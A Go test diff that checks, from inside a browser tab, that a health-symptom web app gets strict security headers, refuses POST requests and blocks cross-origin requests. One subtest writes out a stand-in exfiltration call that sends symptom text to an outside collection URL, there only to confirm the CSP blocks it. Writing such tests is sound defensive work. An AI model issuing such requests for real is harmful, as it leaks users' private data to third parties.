@@ -87,6 +87,78 @@ func TestApp(t *testing.T) {
 	checkBoot(t, root, srv, tab)
 	checkNoUserDataLeaves(t, root, srv, tab)
 	checkAPI(t, root, srv, tab)
+	checkSecurity(t, tab) // last: its POST would fail checkNoUserDataLeaves
+}
+
+// checkSecurity asks from inside the page, so what is checked is what the
+// browser received and enforces, not what a Go client sees.
+func checkSecurity(t *testing.T, tab *browsertest.Tab) {
+	t.Run("the browser receives the security headers on pages, wasm, weights and errors", func(t *testing.T) {
+		// HEAD passes the service worker by, so each answer is the server's.
+		got, err := browsertest.Eval[map[string]map[string]string](tab, `(async () => {
+			const names = ["content-security-policy", "x-content-type-options", "referrer-policy", "permissions-policy", "cross-origin-opener-policy"];
+			const out = {};
+			for (const path of ["/", "/symptoms", "/web/app.wasm", "/web/models/manifest.json", "/web/models/wdbc.safetensors", "/no-such-page"]) {
+				const res = await fetch(path, {method: "HEAD", cache: "no-store"});
+				out[path] = {status: String(res.status)};
+				for (const n of names) out[path][n] = res.headers.get(n) || "";
+			}
+			return out;
+		})()`)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(got) != 6 {
+			t.Fatalf("answers for %d paths, want 6: %v", len(got), got)
+		}
+		for path, h := range got {
+			csp := h["content-security-policy"]
+			for _, want := range []string{"default-src 'self'", "connect-src 'self'"} {
+				if !strings.Contains(csp, want) {
+					t.Errorf("%s: CSP %q lacks %q", path, csp, want)
+				}
+			}
+			if strings.Contains(csp, "http:") || strings.Contains(csp, "https:") || strings.Contains(csp, "*") {
+				t.Errorf("%s: CSP %q names another origin", path, csp)
+			}
+			for n, want := range map[string]string{"x-content-type-options": "nosniff", "referrer-policy": "no-referrer", "cross-origin-opener-policy": "same-origin"} {
+				if h[n] != want {
+					t.Errorf("%s: %s = %q, want %q", path, n, h[n], want)
+				}
+			}
+			if h["permissions-policy"] == "" {
+				t.Errorf("%s: no Permissions-Policy", path)
+			}
+		}
+	})
+	t.Run("a POST from the page is refused with 405", func(t *testing.T) {
+		status, err := browsertest.Eval[int](tab, `fetch("/", {method: "POST", body: "fever"}).then((r) => r.status)`)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if status != 405 {
+			t.Fatalf("POST / answered %d, want 405", status)
+		}
+	})
+	t.Run("the browser blocks a request to another origin before it leaves", func(t *testing.T) {
+		type verdict struct {
+			Rejected  bool   `json:"rejected"`
+			Directive string `json:"directive"`
+		}
+		v, err := browsertest.Eval[verdict](tab, `new Promise((resolve) => {
+			let directive = "";
+			document.addEventListener("securitypolicyviolation", (e) => { directive = e.effectiveDirective; }, {once: true});
+			fetch("https://elsewhere.invalid/collect?text=fever").then(
+				() => resolve({rejected: false, directive}),
+				() => setTimeout(() => resolve({rejected: true, directive}), 100));
+		})`)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !v.Rejected || v.Directive != "connect-src" {
+			t.Fatalf("cross-origin fetch: %+v, want rejected by connect-src", v)
+		}
+	})
 }
 
 func checkBoot(t *testing.T, root string, srv *browsertest.Server, tab *browsertest.Tab) {
